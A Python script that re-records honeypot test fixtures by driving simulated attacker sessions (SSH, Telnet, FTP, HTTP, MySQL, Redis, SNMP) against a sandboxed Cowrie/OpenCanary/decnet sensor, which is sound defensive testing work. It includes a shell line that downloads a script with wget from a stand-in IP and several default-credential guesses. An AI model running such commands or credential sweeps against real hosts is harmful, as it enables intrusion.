"""Re-record tests/fixtures/sensor_lines/ from the real sensor image (run by hand, as root,
on a machine with Docker): `.venv/bin/python tests/sensor/record_lines.py`.

Starts one hardened sensor with a service of each implementation, drives real clients against
it, and keeps the first line of each kind per sensor (Cowrie eventid, OpenCanary logtype,
decnet kind) in one file per sensor, in sequence order. The controller's normaliser is
golden-tested on these (SENSORS-DESIGN.md: normalising happens on the controller).
"""

from __future__ import annotations

import contextlib
import ftplib
import json
import sys
import tempfile
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pymysql

sys.path.insert(0, str(Path(__file__).resolve().parent))
sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from sensor_support import (
    SensorBox,
    ensure_sensor_image,
    internal_network,
    redis_commands,
    snmp_get,
    ssh_shell,
    state_dir,
    telnet_session,
)
from subnet_pools import fresh_lans

TARGET = Path(__file__).resolve().parents[1] / "fixtures" / "sensor_lines"
OID = bytes([0x2B, 6, 1, 2, 1, 1, 1, 0])


def drive(ip: str) -> None:
    ssh_shell(ip, "root", "recorded-pw", "uname -a; wget http://203.0.113.7/x.sh")
    with contextlib.suppress(Exception):
        ssh_shell(ip, "admin", "admin123", "id")
    telnet_session(ip, b"root", b"letmein", b"id")
    ftp = ftplib.FTP()
    ftp.connect(ip, 21, timeout=20)
    with contextlib.suppress(ftplib.error_perm):
        ftp.login("anonymous", "guest@example.com")
    ftp.close()
    agent = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) recorded"}
    urllib.request.urlopen(urllib.request.Request(f"http://{ip}/index.html", headers=agent))
    form = urllib.parse.urlencode({"username": "admin", "password": "P@ssw0rd"}).encode()
    urllib.request.urlopen(urllib.request.Request(f"http://{ip}/index.html", form, agent))
    with contextlib.suppress(urllib.error.HTTPError):
        urllib.request.urlopen(urllib.request.Request(f"http://{ip}/wp-login.php", headers=agent))
    with contextlib.suppress(pymysql.err.OperationalError):
        pymysql.connect(host=ip, user="root", password="toor", connect_timeout=20)
    redis_commands(ip, [b"AUTH", b"foobared"], [b"CONFIG", b"GET", b"dir"])
    snmp_get(ip, b"public", OID)
    snmp_get(ip, b"private", OID)


def key(line: dict[str, object]) -> tuple[str, str]:
    event = line["event"]
    assert isinstance(event, dict)
    kind = event.get("eventid") or event.get("logtype") or event.get("kind")
    return str(line["sensor"]), f"{line.get('service')}:{kind}"


def main() -> None:
    image = ensure_sensor_image()
    env = {
        "DECNET_SERVICES": "ssh=22/tcp telnet=23/tcp ftp=21/tcp http=80/tcp mysql=3306/tcp "
        "redis=6379/tcp snmp=161/udp",
        "DECNET_DECKY": "recorded",
        "DECNET_TOPOLOGY": "golden",
        "DECNET_SSH_PASSWORD": "recorded-pw",
        "DECNET_TELNET_PASSWORD": "letmein",
        "DECNET_HEARTBEAT": "1",
    }
    with tempfile.TemporaryDirectory() as tmp, internal_network(fresh_lans(1)[0]) as net:
        box = SensorBox(net[0], net[1].rsplit(".", 1)[0] + ".10", state_dir(Path(tmp)), env, image)
        try:
            box.start()
            drive(box.ip)
            box.wait(lambda d: d["event"].get("kind") == "sensor.heartbeat")
            box.wait(lambda d: d["event"].get("kind") == "close", count=9)
            lines = box.events()
        finally:
            box.remove()
    chosen: dict[str, list[dict[str, object]]] = {"cowrie": [], "opencanary": [], "decnet": []}
    seen: set[tuple[str, str]] = set()
    for line in lines:
        if key(line) not in seen:
            seen.add(key(line))
            chosen[str(line["sensor"])].append(line)
    TARGET.mkdir(parents=True, exist_ok=True)
    for sensor, picked in chosen.items():
        text = "".join(
            json.dumps(x, ensure_ascii=True, separators=(",", ":")) + "\n" for x in picked
        )
        (TARGET / f"{sensor}.jsonl").write_text(text, encoding="ascii")
        print(f"{sensor}: {len(picked)} lines")


if __name__ == "__main__":
    main()
